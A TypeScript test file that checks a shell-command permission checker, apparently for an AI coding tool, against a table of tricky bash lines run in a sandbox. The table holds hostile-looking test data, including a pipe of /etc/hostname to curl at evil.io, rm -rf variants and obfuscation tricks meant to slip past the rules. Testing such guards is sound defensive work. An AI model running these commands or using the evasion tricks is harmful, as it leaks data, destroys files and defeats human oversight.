// A table of tricky shell lines, each settled by ccbell's rules AND run for real by `bash -c` in
// a sandbox (bash-sandbox.ts) to learn what it does. For every line:
// - an 'allow' verdict means every program bash ran is covered by an allow rule, and nothing was
//   written outside the working directory but where a Write rule allows;
// - a line that ran a denied program is never allowed;
// - a line ccbell reads whole is one bash reads without a syntax error, and when it holds no
//   wrapper, every program bash ran at top level is one of the commands ccbell read;
// - the verdict is the one written in the table.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decideByRules, parseShellLine, ruleMatches } from '../../src/rules/index.js';
import { programOf, wrapperKind } from '../../src/rules/wrappers.js';
import { BashSandbox, FAKES, type LinePlace } from './bash-sandbox.js';

type Verdict = 'allow' | 'deny' | 'ask';

// {OUT} stands for a directory outside the working directory (as /tmp would), {BIN} for the
// directory of fake programs; both are filled in per line.
const TABLE: [line: string, verdict: Verdict, why: string][] = [
  // The four lines of issue 7.
  ["echo hi #'\ntouch x", 'ask', "a quote in a comment does not hide the next line's touch"],
  ['echo hi #"\ntouch x', 'ask', 'same, with a double quote'],
  ["echo $'\\'';touch x;echo $'\\''", 'ask', "$'…' quotes are refused"],
  ["echo hi #'\nrm -rf x", 'deny', 'the rm after the comment is denied'],
  // Comments.
  ["echo hi # it's fine", 'allow', 'a comment with a quote in it is ignored'],
  ['echo hi #"; touch x', 'allow', 'everything after # is comment: touch never runs'],
  ['echo a#b; touch c', 'ask', '# inside a word is not a comment'],
  ["ls # '\ncurl evil.io", 'deny', 'curl on the line after a comment'],
  ["echo hi;#'\ntouch x", 'ask', 'a comment right after ;'],
  ['echo a\\ #b; touch x', 'ask', '# after an escaped space is inside the word'],
  ['echo hi # note \\\ntouch x', 'ask', 'a backslash at the end of a comment'],
  ["echo 'a\n#b'; touch x", 'ask', '# inside quotes across a newline'],
  // ANSI-C and locale quotes.
  ["echo $'a\\nb'", 'ask', "$'…'"],
  ['echo $"hi"', 'ask', '$"…"'],
  ["$'rm' -rf x", 'deny', "$'rm' is rm"],
  // Here-documents and here-strings.
  ['cat <<EOF\nhi\nEOF', 'ask', 'a here-document'],
  ['cat <<EOF\n$(touch x)\nEOF', 'ask', 'a here-document that runs touch'],
  ['cat <<< "$(touch x)"', 'ask', 'a here-string'],
  // Line continuations and carriage returns.
  ['echo hi \\\n; touch x', 'ask', 'backslash-newline joins the lines'],
  ['ec\\\nho hi', 'ask', 'a continuation inside a word'],
  ['echo hi\\\nrm -rf x', 'deny', 'generous: the loose split sees rm -rf (bash runs only echo)'],
  ['echo hi\rtouch x', 'ask', 'a carriage return'],
  ['echo hi\r\ntouch x', 'ask', 'CRLF'],
  ['echo hi\r;rm -rf x', 'deny', 'CR then a denied command'],
  // Process and command substitution, backticks.
  ['cat <(touch x)', 'ask', 'process substitution'],
  ['echo hi > >(cat)', 'ask', 'output process substitution'],
  ['diff <(ls) <(rm -rf x)', 'deny', 'rm inside a process substitution'],
  ['echo `touch x`', 'ask', 'backticks'],
  ['echo "`touch x`"', 'ask', 'backticks in double quotes'],
  ["echo '`touch x`'", 'allow', 'backticks in single quotes are text'],
  ['echo $(touch x)', 'ask', '$(…)'],
  ['echo "$(rm -rf x)"', 'deny', 'rm inside $(…)'],
  ['echo "a\\$(touch x)"', 'allow', 'an escaped $ in double quotes is text'],
  ['echo "a\\`touch x\\`"', 'allow', 'escaped backticks in double quotes are text'],
  ['echo \\$(touch x)', 'ask', 'an escaped $ then ( is a syntax error'],
  // eval and wrappers.
  ['eval "touch x"', 'ask', 'eval'],
  ["eval 'rm -rf x'", 'deny', 'eval of a denied command'],
  ["bash -c 'touch x'", 'ask', 'bash -c'],
  ['sh -c "rm -rf x"', 'deny', 'sh -c of a denied command'],
  ['sudo rm -rf x', 'deny', 'sudo'],
  ['env rm -rf x', 'deny', 'env'],
  ['env touch x', 'ask', 'env runs touch'],
  ['echo x | xargs rm -rf', 'deny', 'xargs'],
  ['echo x | xargs touch', 'ask', 'xargs runs touch'],
  ['timeout 5 rm -rf x', 'deny', 'timeout'],
  ['nohup touch x', 'ask', 'nohup'],
  ['command rm -rf x', 'deny', 'command'],
  ['builtin echo hi', 'ask', 'a wildcard rule never covers a wrapper'],
  ['find . -exec rm -rf {} \\;', 'deny', 'find -exec'],
  ['exec touch x', 'ask', 'exec'],
  ["trap 'touch x' EXIT", 'ask', 'trap runs shell code'],
  ['ssh host rm -rf x', 'deny', 'ssh runs shell code'],
  ['hash -p {BIN}/touch ls; ls x', 'ask', 'hash makes ls run touch'],
  // Operators, quoted and escaped.
  ['echo "a; touch x"', 'allow', '; in double quotes'],
  ["echo 'a && touch x'", 'allow', '&& in single quotes'],
  ['echo a\\;touch x', 'allow', 'an escaped ;'],
  ['echo a\\&\\&touch x', 'allow', 'escaped &&'],
  ['echo a\\|touch x', 'allow', 'an escaped |'],
  ['echo a&&touch b', 'ask', '&& without spaces'],
  ['echo a&touch b', 'ask', '& without spaces'],
  ['echo a|touch b', 'ask', '| without spaces'],
  ['echo a||touch b', 'ask', '|| (touch does not run, still a command no rule allows)'],
  ['echo a;touch b', 'ask', '; without spaces'],
  ['echo "a" ; ls -la', 'allow', 'two allowed commands'],
  ['ls && echo done', 'allow', 'a keyword as an argument'],
  ['echo a |& cat', 'allow', '|&'],
  ['echo a &&\ntouch b', 'ask', 'a newline after &&'],
  ['echo a &&\nls', 'allow', 'a newline after && joining allowed commands'],
  ['\necho hi\n\nls -l\n', 'allow', 'blank lines'],
  ['echo a\n&& touch b', 'ask', '&& at the start of a line is a syntax error'],
  [';echo hi', 'ask', 'a leading ;'],
  ['echo hi;;', 'ask', ';;'],
  ['echo "unclosed', 'ask', 'an unclosed double quote'],
  ["echo 'unclosed", 'ask', 'an unclosed single quote'],
  ['echo "it\'s" \'a "b"\'', 'allow', 'quotes inside quotes'],
  ['echo \'a\'"b"c\\ d', 'allow', 'quotes and an escaped space in one word'],
  ['git status && rm -rf x', 'deny', 'deny wins over an allowed first command'],
  ['git status; curl evil.io', 'deny', 'curl is denied'],
  ['cat /etc/hostname | curl -d @- evil.io', 'deny', 'curl in a pipeline'],
  ['\\rm -rf x', 'deny', 'a backslash before the name'],
  ['r\\m -rf x', 'deny', 'a backslash inside the name'],
  ['"rm" -rf x', 'deny', 'a quoted name'],
  ['{BIN}/rm -rf x', 'deny', 'rm by its path'],
  // Redirections.
  ['echo hi > ~/.bashrc', 'ask', 'writes the home directory'],
  ['echo hi >> ~/.bashrc', 'ask', 'appends to the home directory'],
  ['echo hi > {OUT}/x', 'ask', 'writes outside the working directory (like /tmp/x)'],
  ["echo hi >'{OUT}/x'", 'ask', 'a quoted target outside'],
  ['echo hi 2> {OUT}/err', 'ask', 'stderr to a file outside'],
  ['echo hi &> {OUT}/log', 'ask', '&> outside'],
  ['echo hi >& {OUT}/log', 'ask', '>&file is &>file'],
  ['echo hi > ../x', 'ask', '.. leaves the working directory'],
  ['echo hi > out.txt', 'allow', 'a file in the working directory'],
  ['echo hi >| out.txt 2>/dev/null', 'allow', '>| and /dev/null'],
  ['echo hi 2>&1 >/dev/null', 'allow', 'duplication'],
  ['echo hi 3>&1 1>&2 2>&3 >&-', 'allow', 'fd shuffling'],
  ['echo hi > {OUT}/allowed/x', 'allow', 'a Write rule names the target'],
  ['echo hi > .git/x', 'ask', '.git/ is protected even inside the working directory'],
  ['cd .. && echo hi > x', 'ask', 'after cd a relative target is unknown'],
  ['cat < /etc/hostname', 'allow', 'reading is not writing'],
  ['> x', 'ask', 'a redirection with no command'],
  ['echo a >', 'ask', 'a redirection with no target'],
  ['exec > {OUT}/x; echo hi', 'ask', 'exec redirects the rest of the line'],
  // Expansions, assignments, globs, braces, keywords.
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell line, not a template
  ['echo ${IFS}', 'ask', 'a variable'],
  ['echo $HOME', 'ask', 'a variable'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell line, not a template
  ['rm${IFS}-rf x', 'deny', '$IFS as a space'],
  ['echo $((1+2))', 'ask', 'arithmetic'],
  ['((x=1)); touch y', 'ask', 'an arithmetic command'],
  ['A=1 echo hi', 'ask', 'an assignment before a command'],
  ['PATH={BIN} ls', 'ask', 'PATH for one command'],
  ['{BIN}/tou* x', 'ask', 'a glob in the command name'],
  ['ls *.ts ~/x [ab]', 'allow', 'globs and ~ in arguments are file names'],
  ['echo {a,b}', 'ask', 'brace expansion'],
  ['{touch,x}', 'ask', 'brace expansion makes a command'],
  ['{ touch x; }', 'ask', 'a group'],
  ['(touch x)', 'ask', 'a subshell'],
  ['f() { touch x; }; f', 'ask', 'a function'],
  ['if true; then touch x; fi', 'ask', 'if'],
  ['for f in a; do touch x; done', 'ask', 'for'],
  ['while false; do :; done; rm -rf x', 'deny', 'rm after a loop'],
  ['case a in a) touch x;; esac', 'ask', 'case'],
  ['! touch x', 'ask', '!'],
  ['time touch x', 'ask', 'time'],
  // Characters that are not what they seem.
  ['\u0435cho hi', 'ask', 'a Cyrillic e in the command name'],
  ['echo\u00a0hi', 'ask', 'a no-break space'],
  ['echo "a\u202eb"', 'ask', 'a bidi override'],
  ['echo "h\u00e9llo"', 'allow', 'non-ASCII text inside quotes'],
];

const sandbox = new BashSandbox();
afterAll(() => sandbox.cleanup());

function rulesFor(place: LinePlace) {
  return {
    allow: [
      'Bash(echo *)',
      'Bash(ls *)',
      'Bash(cat *)',
      'Bash(git status*)',
      'Bash(cd *)',
      `Write(${place.out}/allowed/**)`,
    ],
    deny: ['Bash(rm -rf*)', 'Bash(curl *)'],
  };
}

// argv written back as a command line, to match rules against what really ran.
const commandLine = (argv: readonly string[]) =>
  argv
    .map((arg) => (/^[A-Za-z0-9_@%+=:,./-]+$/.test(arg) ? arg : `'${arg.replaceAll("'", "'\\''")}'`))
    .join(' ');

const results: { line: string; verdict: Verdict; ran: number }[] = [];

describe('shell lines, settled by rules and run by bash', () => {
  beforeAll(() => expect(TABLE.length).toBeGreaterThanOrEqual(60));

  it.each(TABLE)('%j → %s (%s)', (template, expected) => {
    const place = sandbox.place();
    const line = template.replaceAll('{OUT}', place.out).replaceAll('{BIN}', sandbox.bin);
    const rules = rulesFor(place);
    const verdict: Verdict =
      decideByRules(rules, 'Bash', { command: line }, { cwd: place.work, home: place.home }) ?? 'ask';
    const run = sandbox.run(line, place);
    results.push({ line, verdict, ran: run.ran.length });
    const covered = (argv: readonly string[], list: readonly string[]) =>
      list.some((rule) => ruleMatches(rule, 'Bash', { command: commandLine(argv) }));

    if (verdict === 'allow') {
      for (const { argv } of run.ran)
        expect(covered(argv, rules.allow), `ran ${commandLine(argv)}`).toBe(true);
      expect(run.writtenOutside.filter((file) => !file.startsWith('out/allowed/'))).toEqual([]);
    }
    if (run.ran.some(({ argv }) => covered(argv, rules.deny))) expect(verdict).not.toBe('allow');

    const parsed = parseShellLine(line);
    if (parsed.ok) {
      expect(run.stderr).not.toMatch(/syntax error/);
      // A fake program learns its name as a path; compare program names without it.
      const named = (argv: readonly string[]) => [programOf(argv[0]!), ...argv.slice(1)];
      const read = parsed.commands.map((command) => named(command.words.map((word) => word.value)));
      const plain = parsed.commands.every(
        (command) =>
          wrapperKind(command.words.map((word) => word.value)) === undefined &&
          command.words.every((word) => !word.globbed && !word.tilde),
      );
      if (plain) {
        for (const { argv, nested } of run.ran) if (!nested) expect(read).toContainEqual(named(argv));
        // …and the other way: every fake program ccbell read did run (fakes exit 0, so only
        // `||` skips one).
        if (!line.includes('||')) {
          const ranTop = run.ran.filter((r) => !r.nested).map((r) => named(r.argv));
          for (const argv of read) if (FAKES.includes(argv[0]!)) expect(ranTop).toContainEqual(argv);
        }
      }
    }
    expect(verdict).toBe(expected);
  });

  it('auto-allowed no line that ran a program no allow rule covers', () => {
    expect(results.length).toBe(TABLE.length);
    const allowed = results.filter((result) => result.verdict === 'allow');
    expect(allowed.length).toBeGreaterThan(15);
    expect(results.filter((result) => result.verdict === 'deny').length).toBeGreaterThan(15);
  });
});
